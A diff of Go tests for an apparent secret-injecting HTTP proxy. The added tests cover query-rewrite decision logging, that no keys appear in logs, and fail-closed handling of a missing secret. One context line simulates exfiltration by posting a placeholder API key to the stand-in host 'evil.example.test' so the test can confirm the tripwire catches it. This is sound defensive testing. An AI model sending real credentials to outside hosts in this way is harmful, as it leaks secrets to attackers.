@@ -12,9 +12,12 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
+	"path/filepath"
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
 
 	"github.com/botbox/botbox/internal/config"
 	"github.com/botbox/botbox/internal/placeholder"
@@ -513,4 +516,59 @@ func TestTripwireReportModeBody(t *testing.T) {
 	body := `{"key":"` + phAPI + `"}`
 	status, resp := e.send(ListenerHTTP, http.MethodPost, "evil.example.test", "/x", nil, strings.NewReader(body), int64(len(body)))
 	e.assertTripped(status, resp, ListenerHTTP, "api-key", "body", "evil.example.test")
+}
+
+// TestQueryRewriteDecisionLine: the decision line names the parameters a
+// query rewrite set (query_rewritten, configured names) and the secret,
+// never the query (which now holds the key) nor the value; an app's
+// parameter name cannot add itself to the field.
+func TestQueryRewriteDecisionLine(t *testing.T) {
+	e := newTripEnv(t, envOpts{})
+	status, _ := e.send(ListenerHTTP, http.MethodGet, "query.example.test", "/v1?key=junk&query_rewritten=x&x=1", nil, nil, 0)
+	if status != http.StatusOK {
+		t.Fatalf("status %d", status)
+	}
+	if seen := e.lastSeen(); seen.Path != "/v1?query_rewritten=x&x=1&key=sk-test-12345" {
+		t.Errorf("origin path = %q", seen.Path)
+	}
+	line := e.waitDecisions(1)[0]
+	if got, _ := line["query_rewritten"].([]any); len(got) != 1 || got[0] != "key" {
+		t.Errorf("query_rewritten = %v", line["query_rewritten"])
+	}
+	if got, _ := line["secret_ref"].([]any); len(got) != 1 || got[0] != "api-key" {
+		t.Errorf("secret_ref = %v", line["secret_ref"])
+	}
+	if line["path"] != "/v1" {
+		t.Errorf("path = %v", line["path"])
+	}
+	if logs := e.logs.String(); strings.Contains(logs, "sk-test-12345") || strings.Contains(logs, "junk") {
+		t.Error("the logs hold the key or the app's query")
+	}
+}
+
+// TestQueryRewriteMissingSecret: a query rewrite whose secret is missing
+// fails the request closed (500), nothing is forwarded, and the line
+// names the secret_ref.
+func TestQueryRewriteMissingSecret(t *testing.T) {
+	e := newTripEnv(t, envOpts{})
+	if err := os.Remove(filepath.Join(e.secretDir, "api-key")); err != nil {
+		t.Fatal(err)
+	}
+	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(10 * time.Millisecond) {
+		if _, ok := e.store.Snapshot().Lookup("api-key"); !ok {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("the store still holds the removed secret")
+		}
+	}
+	status, body := e.send(ListenerHTTP, http.MethodGet, "query.example.test", "/v1?key=x", nil, nil, 0)
+	if status != http.StatusInternalServerError || body != bodySecretMissing {
+		t.Fatalf("got %d %q", status, body)
+	}
+	e.assertOriginUntouched()
+	line := e.waitDecisions(1)[0]
+	if got, _ := line["secret_ref"].([]any); len(got) != 1 || got[0] != "api-key" {
+		t.Errorf("secret_ref = %v", line["secret_ref"])
+	}
 }
